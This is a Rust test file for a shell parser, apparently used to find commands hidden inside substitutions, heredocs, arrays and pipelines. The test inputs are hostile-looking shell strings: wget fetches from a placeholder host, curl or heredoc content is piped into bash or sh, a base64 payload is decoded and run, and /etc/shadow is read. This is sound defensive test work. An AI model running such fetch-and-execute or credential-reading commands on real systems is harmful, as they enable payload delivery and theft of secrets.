//! What the grammar of a shell makes of a text that looks like something else.

use vespid_shell::parse;

/// The commands of a line as `via, via: line`.
fn told(text: &str) -> Vec<String> {
    let commands = parse(text).commands;
    let tell = |it: &vespid_shell::SimpleCommand| match it.via.join(", ") {
        via if via.is_empty() => it.line.as_str().to_owned(),
        via => format!("{via}: {}", it.line.as_str()),
    };
    commands.iter().map(tell).collect()
}

/// What the line runs apart from its first command.
fn runs(text: &str) -> Vec<String> {
    told(text).split_off(1)
}

#[test]
fn two_parentheses_are_arithmetic_only_when_they_close_together() {
    for (text, inside) in [
        ("echo $((wget http://x/1); id)", vec!["$(...): wget http://x/1", "$(...): id"]),
        (
            "echo \"$(( wget http://x/1 ) | wget http://x/2)\"",
            vec!["$(...): wget http://x/1", "$(...): wget http://x/2"],
        ),
        ("x=$((wget http://x/1) )", vec!["$(...): wget http://x/1"]),
        (
            "x=$(( bash <<'E'\nwget http://x/1\nE\n) )",
            vec!["$(...): bash << E", "$(...), bash <<: wget http://x/1"],
        ),
        ("cat <<E\n$((wget http://x/1); id)\nE", vec!["$(...): wget http://x/1", "$(...): id"]),
        ("echo ${a:-$((wget http://x/1); id)}", vec!["$(...): wget http://x/1", "$(...): id"]),
        ("echo $((1 + $((wget http://x/1); id)))", vec!["$(...): wget http://x/1", "$(...): id"]),
        ("echo $((wget http://x/1", vec!["$(...): wget http://x/1"]),
        ("echo $((1 + 2)) $(((1 + 2) * 3)) \"$((a ? (b) : c))\" $(((1) + (2)))", vec![]),
        ("echo $((1 + $((2 + $(nproc)))))", vec!["$(...): nproc"]),
    ] {
        assert_eq!(runs(text), inside, "{text}");
    }
}

#[test]
fn a_redirection_behind_a_group_knows_the_programs_of_the_group() {
    for (text, programs) in [
        ("{ echo a; cat k; } > f", vec!["/usr/bin/cat", "/usr/bin/echo"]),
        ("(echo a) >> f", vec!["/usr/bin/echo"]),
        ("for i in 1 2; do echo $i; done > f", vec!["/usr/bin/echo"]),
        ("while read l; do echo $l; done > f 2>&1", vec!["/usr/bin/echo", "/usr/bin/read"]),
        ("if true; then cat k; fi > f", vec!["/usr/bin/cat", "/usr/bin/true"]),
        ("case a in a) cat k;; esac > f", vec!["/usr/bin/cat"]),
        ("{ sudo cat k; } > f", vec!["/usr/bin/cat", "/usr/bin/sudo"]),
        ("curl x | { tee k; } > f", vec!["/usr/bin/tee", "/usr/bin/curl"]),
        ("(echo a; (echo b) > f)", vec!["/usr/bin/echo"]),
        ("> f", vec![]),
        ("id; > f", vec![]),
        ("(id); > f", vec![]),
        ("id\n> f", vec![]),
        ("id | > f", vec![]),
        ("(id; > f)", vec![]),
        ("A=b > f", vec![]),
    ] {
        let commands = parse(text).commands;
        let bare = commands.iter().find(|it| it.argv.is_empty()).unwrap();
        let piped: Vec<_> = bare.piped_from.iter().map(|it| &**it).collect();
        assert_eq!(piped, programs, "{text}");
    }
    let commands = parse("{ curl x; } 2> f | sh").commands;
    assert_eq!(commands[2].piped_from, ["/usr/bin/curl".into()], "and a pipe behind it does too");
}

#[test]
fn a_comment_in_a_substitution_opens_and_closes_nothing() {
    for (text, rest) in [
        ("x=$(id # don't\n)\ncat /etc/shadow", vec!["$(...): id", "cat /etc/shadow"]),
        ("x=$(# a ) \" ` $(\nid)\nw", vec!["$(...): id", "w"]),
        ("x=$(id;# '\n); w", vec!["$(...): id", "w"]),
        ("x=$((id)# '\n); w", vec!["$(...): id", "w"]),
        ("x=$(id \\\n# '\n); w", vec!["$(...): id", "w"]),
        ("cat <(id # '\n); w", vec!["<(...): id", "w"]),
        ("cat <<E\n$(id # '\n) $(w)\nE", vec!["$(...): id", "$(...): w"]),
        // None of these begins a comment.
        ("x=$(id a#b); w", vec!["$(...): id a#b", "w"]),
        ("x=$(id $#); w", vec!["$(...): id $#", "w"]),
        ("x=$(id ${#a}); w", vec!["$(...): id ${#a}", "w"]),
        ("x=$(id ''#b); w", vec!["$(...): id #b", "w"]),
        ("x=$(id \\ #b); w", vec!["$(...): id  #b", "w"]),
        ("x=$(id \\#b); w", vec!["$(...): id #b", "w"]),
        ("x=$(id ${a}#b); w", vec!["$(...): id ${a}#b", "w"]),
        ("x=\"$(id 'a #b')\"; w", vec!["$(...): id a #b", "w"]),
        ("x=$(id <(w)#b); w", vec!["$(...): id <(w)#b", "$(...), <(...): w", "w"]),
        ("echo $((16#ff)); w", vec!["w"]),
    ] {
        assert_eq!(runs(text), rest, "{text}");
    }
}

#[test]
fn a_list_of_values_runs_only_what_is_substituted_in_it() {
    for (text, commands) in [
        ("a=(wget http://x/y)", vec!["a=(wget http://x/y)"]),
        ("a+=(wget http://x/y); id", vec!["a+=(wget http://x/y)", "id"]),
        ("declare -a u=(curl http://x/y) && id", vec!["declare -a u=(curl http://x/y)", "id"]),
        ("a=(b (c) d)", vec!["a=(b (c) d)"]),
        ("a=()", vec!["a=()"]),
        ("a=(b)c id", vec!["a=(b)c id"]),
        ("a=(x\ncase in y) id", vec!["a=(x\ncase in y) id"]),
        ("a=(wget 'x)' \")\") id", vec!["a=(wget 'x)' \")\") id"]),
        ("a=(x # don't)\n) id", vec!["a=(x # don't)\n) id"]),
        ("a=('$(w)' $'\\'$(w)') id", vec!["a=('$(w)' $'\\'$(w)') id"]),
        ("a=(x $(id) \"`w`\")", vec!["a=(x $(id) \"`w`\")", "$(...): id", "`...`: w"]),
        ("a=(x <(id))", vec!["a=(x <(id))", "<(...): id"]),
        ("a=(x # '\n$(id))", vec!["a=(x # '\n$(id))", "$(...): id"]),
        // None of these is one.
        ("a= (id)", vec!["a=", "id"]),
        ("'a'=(id)", vec!["a=", "id"]),
        ("a=b(id)", vec!["a=b", "id"]),
        ("a() { id; }", vec!["id"]),
    ] {
        assert_eq!(told(text), commands, "{text}");
    }
    let text = "a=(wget $(id))";
    let commands = parse(text).commands;
    assert_eq!(commands[0].assignments[0].as_str(), text);
    assert!(commands[0].argv.is_empty());
    assert_eq!(&text[commands[1].span.clone()], "id");
}

#[test]
fn only_its_own_line_ends_a_document() {
    for text in [
        "cat > x.sh <<E\n  E\nwget http://x/1\nE",
        "cat > x.sh <<E\n\tE\nwget http://x/1\nE",
        "cat > x.sh <<E\nE \nwget http://x/1\nE",
        "cat > x.sh <<E\nE\t\nwget http://x/1\nE",
        "cat > x.sh <<-E\n E\nwget http://x/1\nE",
        "cat > x.sh <<-E\n\t E\nwget http://x/1\nE",
    ] {
        assert_eq!(told(text).len(), 1, "{text}");
    }
    for text in [
        "cat > x.sh <<E\nE\nwget http://x/1",
        "cat > x.sh <<E\r\na\r\nE\r\nwget http://x/1\r\n",
        "cat > x.sh <<-E\n\t\tE\nwget http://x/1",
        "cat > x.sh <<-E\n\tE\r\nwget http://x/1",
        "cat > x.sh <<' E'\n E\nwget http://x/1",
        "cat > x.sh <<''\na\n\nwget http://x/1",
    ] {
        assert_eq!(runs(text), ["wget http://x/1"], "{text}");
    }
}

#[test]
fn a_document_is_passed_on_by_what_puts_it_out_again() {
    for (text, read) in [
        ("cat <<E | bash\nwget http://x/1\nE", true),
        ("tee k <<E | bash\nwget http://x/1\nE", true),
        ("sudo tee k <<E | sudo bash\nwget http://x/1\nE", true),
        ("cat <<E | grep -v '^#' | sed s/a/b/ | head -9 | tail -8 | tee k | bash\nwget http://x/1\nE", true),
        ("{ cat <<E; } | bash\nwget http://x/1\nE", true),
        ("{ cat <<E; echo id; } | bash\nwget http://x/1\nE", true),
        ("{ cat; } <<E | bash\nwget http://x/1\nE", true),
        ("cat <<E | { cd /tmp; bash; }\nwget http://x/1\nE", true),
        ("python3 <<E; bash <<F\nid\nE\nwget http://x/1\nF", true),
        ("bash <<E | python3 | sh\nwget http://x/1\nE", true),
        ("python3 <<E | bash\nprint('id')\nwget http://x/1\nE", false),
        ("python3 <<E | cat | bash\nwget http://x/1\nE", false),
        ("cat <<E | python3 | bash\nwget http://x/1\nE", false),
        ("cat <<E | base64 -d | bash\nwget http://x/1\nE", false),
        ("base64 -d <<E | bash\nwget http://x/1\nE", false),
        ("{ python3; } <<E | bash\nwget http://x/1\nE", false),
        ("cat > k <<E; curl x | bash\nwget http://x/1\nE", false),
        ("<<E | bash\nwget http://x/1\nE", false),
    ] {
        let wget = parse(text).commands.iter().any(|it| it.line.as_str() == "wget http://x/1");
        assert_eq!(wget, read, "{text}");
    }
}
